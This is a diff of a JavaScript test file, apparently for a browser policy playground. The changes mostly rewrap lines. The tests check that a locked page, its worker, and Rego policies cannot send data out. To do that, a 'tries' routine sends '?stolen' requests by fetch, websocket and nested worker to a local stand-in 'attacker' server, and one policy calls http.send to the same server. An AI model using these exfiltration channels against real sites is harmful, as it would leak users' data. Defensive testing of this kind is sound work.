@@ -1,4 +1,5 @@
-// Nothing leaves the page once it says so: not what is typed, and not what code in the page, its worker or a policy would send.
+// Nothing leaves the page once it says so: not what is typed, and not what code in the page, its worker or a policy
+// would send.
 
 import assert from 'node:assert/strict';
 import { once } from 'node:events';
@@ -7,7 +8,7 @@ import { createServer } from 'node:net';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 
-import { playground, real, retype, said, tab, until } from './page.js';
+import { playground, real, retype, said, until } from './page.js';
 
 let play;
 let attacker;
@@ -106,7 +107,8 @@ test('the page says how to check it, and tries it', real, async () => {
 test('the same code reaches whom it wants from a page without a policy', real, async () => {
   const page = await (await play.context()).newPage();
   await page.goto(`${attacker.url}open`);
-  await page.evaluate(tries, { url: attacker.url, inPage: true }).catch(() => undefined); // the form leads the page away
+  // The form leads the page away.
+  await page.evaluate(tries, { url: attacker.url, inPage: true }).catch(() => undefined);
   const ways = [
     'fetch',
     'keepalive',
@@ -156,7 +158,8 @@ test("code in the engine's worker reaches nobody, nor in the one after a killed 
   await retype(
     page,
     'Policy, in Rego',
-    'package orders\n\ntext := concat("", [x | some i in numbers.range(1, 50000); x := "abcdefghij"])\n\ndeny contains "x" if {\n\tsome i in numbers.range(1, 100000)\n\tcount(split(text, sprintf("%d", [i]))) == 0\n}\n',
+    'package orders\n\ntext := concat("", [x | some i in numbers.range(1, 50000); x := "abcdefghij"])\n\ndeny ' +
+      'contains "x" if {\n\tsome i in numbers.range(1, 100000)\n\tcount(split(text, sprintf("%d", [i]))) == 0\n}\n',
   );
   await until(async () => /was ended/.test(await said(page)), 'the end of the run');
   await gone;
@@ -191,7 +194,8 @@ test('a policy that calls http.send reaches nobody', real, async () => {
   await retype(
     page,
     'Policy, in Rego',
-    `package orders\n\ndeny contains "sent" if http.send({"method": "get", "url": "${attacker.url}?policy"}).status_code == 200\n`,
+    'package orders\n\ndeny contains "sent" if http.send({"method": "get", "url": ' +
+      `"${attacker.url}?policy"}).status_code == 200\n`,
   );
   await until(
     async () => /http\.send/.test(await page.locator('.pane-result').innerText()),
@@ -246,7 +250,9 @@ async function quiet(page, before) {
   attacker.forget();
 }
 
-/** Runs in the page or in a worker. Tries everything that could carry a byte, and gives the names of what did not fail. */
+/**
+ * Runs in the page or in a worker. Tries everything that could carry a byte, and gives the names of what did not fail.
+ */
 async function tries({ url, inPage = false }) {
   const at = (name) => `${url}${name}?stolen`;
   const socket = (name) => at(name).replace(/^http/, 'ws');
@@ -277,7 +283,8 @@ async function tries({ url, inPage = false }) {
       event(
         new Worker(
           blob(
-            `fetch(${JSON.stringify(at('nested'))}, { mode: 'no-cors' }).then(() => postMessage(1), () => { throw new Error('refused'); })`,
+            `fetch(${JSON.stringify(at('nested'))}, { mode: 'no-cors' }).then(() => postMessage(1), () => { throw ` +
+              `new Error('refused'); })`,
           ),
         ),
         'message',
@@ -368,7 +375,8 @@ async function listener() {
     socket.on('data', (bytes) => {
       one.text += bytes.toString('latin1');
       socket.end(
-        'HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\nok',
+        'HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nContent-Type: ' +
+          'text/plain\r\nConnection: close\r\n\r\nok',
       );
     });
   });
